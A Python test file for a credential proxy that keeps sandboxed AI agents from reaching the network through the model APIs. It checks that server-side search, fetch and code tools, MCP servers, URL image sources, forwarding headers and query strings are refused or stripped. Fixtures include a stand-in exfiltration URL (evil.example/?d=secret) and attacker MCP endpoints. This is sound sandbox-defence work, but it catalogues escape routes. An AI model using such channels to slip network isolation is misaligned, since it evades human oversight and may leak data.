"""The model API as a way out of "no network" (container/proxy/policy.py): server-side tools,
the MCP connector, URL sources, query strings and forwarding headers. Before, bodies, betas,
query strings and X-Forwarded-Host passed unchanged; now what would have the API reach the
network is refused with 400 in the API's format (nothing forwarded), and the rest is
stripped to the allow-lists."""

from __future__ import annotations

from typing import Any

import aiohttp
import anthropic
import openai
import pytest

from container.proxy import CredentialProxy
from tests.fakes.messages_api import FakeMessagesAPI
from tests.fakes.responses_api import FakeResponsesAPI

pytestmark = pytest.mark.timeout(30)
USER = [{"role": "user", "content": "hi"}]
URL_IMAGE = {"type": "image", "source": {"type": "url", "url": "https://evil.example/?d=secret"}}


def claude(proxy: CredentialProxy, token: str) -> anthropic.AsyncAnthropic:
    return anthropic.AsyncAnthropic(api_key=token, base_url=proxy.tcp_url, max_retries=0)


def codex(proxy: CredentialProxy, token: str) -> openai.AsyncOpenAI:
    return openai.AsyncOpenAI(api_key=token, base_url=f"{proxy.tcp_url}/v1", max_retries=0)


@pytest.mark.parametrize(
    ("extra", "said"),
    [
        ({"tools": [{"type": "web_search_20250305", "name": "web_search"}]}, "web_search_2025"),
        ({"tools": [{"type": "web_fetch_20250910", "name": "web_fetch"}]}, "web_fetch"),
        ({"tools": [{"type": "code_execution_20250825", "name": "code_execution"}]}, "code_exec"),
        ({"tools": [{"type": "mcp_toolset", "mcp_server_name": "x"}]}, "mcp_toolset"),
        ({"mcp_servers": [{"type": "url", "url": "https://evil.example/mcp", "name": "x"}]},
         "mcp_servers"),
        ({"container": "container_1"}, "container"),
        ({"messages": [{"role": "user", "content": [URL_IMAGE]}]}, "url source"),
        ({"messages": [{"role": "user", "content": [
            {"type": "tool_result", "tool_use_id": "t", "content": [URL_IMAGE]}]}]},
         "url source"),
    ],
)  # fmt: skip
async def test_anthropic_server_side_reach_is_refused(
    proxy: CredentialProxy, messages_api: FakeMessagesAPI, extra: dict[str, Any], said: str
) -> None:
    grant = proxy.issue("claude")
    body: dict[str, Any] = {"model": "m", "max_tokens": 5, "messages": USER, **extra}
    with pytest.raises(anthropic.BadRequestError) as caught:
        await claude(proxy, grant.token).post("/v1/messages", body=body, cast_to=object)
    assert said in str(caught.value) and "server_tools = true" in str(caught.value)
    assert messages_api.requests == [] and proxy.forwarded == 0
    assert not grant.refused.is_set()  # a refusal of the request, not of the turn's budget


@pytest.mark.parametrize(
    "tool",
    [
        {"type": "web_search"},
        {"type": "web_search_preview"},
        {"type": "file_search", "vector_store_ids": ["vs_1"]},
        {"type": "mcp", "server_label": "x", "server_url": "https://evil.example/mcp"},
        {"type": "code_interpreter", "container": {"type": "auto"}},
        {"type": "image_generation"},
        {"type": "namespace", "name": "n", "tools": [{"type": "web_search"}]},
    ],
)
async def test_openai_hosted_tools_are_refused(
    proxy: CredentialProxy, responses_api: FakeResponsesAPI, tool: dict[str, Any]
) -> None:
    grant = proxy.issue("codex")
    with pytest.raises(openai.BadRequestError) as caught:
        await codex(proxy, grant.token).responses.create(
            model="gpt-5",
            input="hi",
            tools=[{"type": "function", "name": "f", "parameters": {}}, tool],  # type: ignore[list-item]
        )
    assert "hosted tool" in str(caught.value)
    assert responses_api.requests == []


@pytest.mark.parametrize(
    ("body", "said"),
    [
        ({"input": [{"role": "user", "content": [
            {"type": "input_image", "image_url": "https://evil.example/x.png"}]}]},
         "input_image given by URL"),
        ({"input": [{"role": "user", "content": [
            {"type": "input_file", "file_url": "https://evil.example/x.pdf"}]}]},
         "input_file given by URL"),
        ({"input": "hi", "prompt": {"id": "pmpt_1"}}, "stored prompt"),
    ],
)  # fmt: skip
async def test_openai_urls_and_stored_prompts_are_refused(
    proxy: CredentialProxy, responses_api: FakeResponsesAPI, body: dict[str, Any], said: str
) -> None:
    grant = proxy.issue("codex")
    with pytest.raises(openai.BadRequestError) as caught:
        await codex(proxy, grant.token).post(
            "/responses", body={"model": "gpt-5", **body}, cast_to=object
        )
    assert said in str(caught.value)
    assert responses_api.requests == []


async def test_client_side_tools_and_data_urls_pass(
    proxy: CredentialProxy, messages_api: FakeMessagesAPI, responses_api: FakeResponsesAPI
) -> None:
    claude_grant, codex_grant = proxy.issue("claude"), proxy.issue("codex")
    await claude(proxy, claude_grant.token).messages.create(
        model="m",
        max_tokens=5,
        messages=USER,
        tools=[
            {"name": "Bash", "input_schema": {"type": "object"}},
            {"type": "bash_20250124", "name": "bash"},
            {"type": "text_editor_20250728", "name": "str_replace_based_edit_tool"},
        ],
    )
    image = {"type": "input_image", "image_url": "data:image/png;base64,iVBORw0KGgo="}
    await codex(proxy, codex_grant.token).responses.create(
        model="gpt-5",
        input=[{"role": "user", "content": [image]}],  # type: ignore[list-item]
        tools=[
            {"type": "function", "name": "f", "parameters": {}},
            {"type": "custom", "name": "apply_patch"},  # type: ignore[list-item]
        ],
    )
    assert len(messages_api.calls) == 1 and len(responses_api.calls) == 1


async def test_a_group_with_server_tools_gets_them(
    proxy: CredentialProxy, messages_api: FakeMessagesAPI, responses_api: FakeResponsesAPI
) -> None:
    grant = proxy.issue("claude", server_tools=True)
    await claude(proxy, grant.token).messages.create(
        model="m",
        max_tokens=5,
        messages=USER,
        tools=[{"type": "web_search_20250305", "name": "web_search"}],  # type: ignore[list-item]
        extra_headers={"anthropic-beta": "web-fetch-2025-09-10"},
    )
    codex_grant = proxy.issue("codex", server_tools=True)
    await codex(proxy, codex_grant.token).responses.create(
        model="gpt-5",
        input="hi",
        tools=[{"type": "web_search"}],  # type: ignore[list-item]
    )
    assert messages_api.calls[0].tools[0]["type"] == "web_search_20250305"
    assert messages_api.calls[0].headers["anthropic-beta"] == "web-fetch-2025-09-10"
    assert responses_api.calls[0].body["tools"] == [{"type": "web_search"}]


async def test_query_strings_forwarding_headers_and_betas_are_stripped(
    proxy: CredentialProxy, messages_api: FakeMessagesAPI, responses_api: FakeResponsesAPI
) -> None:
    grant = proxy.issue("claude")
    sent = {
        "x-api-key": grant.token,
        "content-type": "application/json",
        "anthropic-version": "2023-06-01",
        "anthropic-beta": "mcp-client-2025-04-04, interleaved-thinking-2025-05-14,"
        "code-execution-2025-08-25,files-api-2025-04-14",
        "x-forwarded-host": "evil.example",
        "x-forwarded-for": "1.2.3.4",
        "forwarded": "host=evil.example",
        "cookie": "a=b",
        "anthropic-organization": "org-elsewhere",
    }
    body = b'{"model": "m", "max_tokens": 5, "messages": [{"role": "user", "content": "hi"}]}'
    codex_grant = proxy.issue("codex")
    async with aiohttp.ClientSession() as session:
        url = f"{proxy.tcp_url}/v1/messages?beta=true&url=https://evil.example/&x=1"
        async with session.post(url, data=body, headers=sent) as answer:
            assert answer.status == 200
        url = f"{proxy.tcp_url}/v1/responses?include=web_search_call.results"
        headers = {
            "authorization": f"Bearer {codex_grant.token}",
            "content-type": "application/json",
            "x-forwarded-host": "evil.example",
            "openai-project": "proj_elsewhere",
            "originator": "codex_exec",
        }
        async with session.post(url, data=b'{"model": "gpt-5", "input": "hi"}', headers=headers):
            pass
    (call,) = messages_api.calls
    assert call.path == "/v1/messages?beta=true"
    assert call.headers["anthropic-beta"] == "interleaved-thinking-2025-05-14"
    assert call.headers["anthropic-version"] == "2023-06-01"
    leaked = {
        "x-forwarded-host",
        "x-forwarded-for",
        "forwarded",
        "cookie",
        "anthropic-organization",
    }
    assert not leaked & set(call.headers)
    (codex_call,) = responses_api.calls
    assert codex_call.path == "/v1/responses" and codex_call.headers["originator"] == "codex_exec"
    assert not {"x-forwarded-host", "openai-project"} & set(codex_call.headers)


async def test_a_body_that_is_not_a_json_object_is_refused(
    proxy: CredentialProxy, messages_api: FakeMessagesAPI
) -> None:
    grant = proxy.issue("claude")
    async with aiohttp.ClientSession() as session:
        for body in (b"not json", b"[1, 2]"):
            async with session.post(
                f"{proxy.tcp_url}/v1/messages", data=body, headers={"x-api-key": grant.token}
            ) as answer:
                assert answer.status == 400
    assert messages_api.requests == []
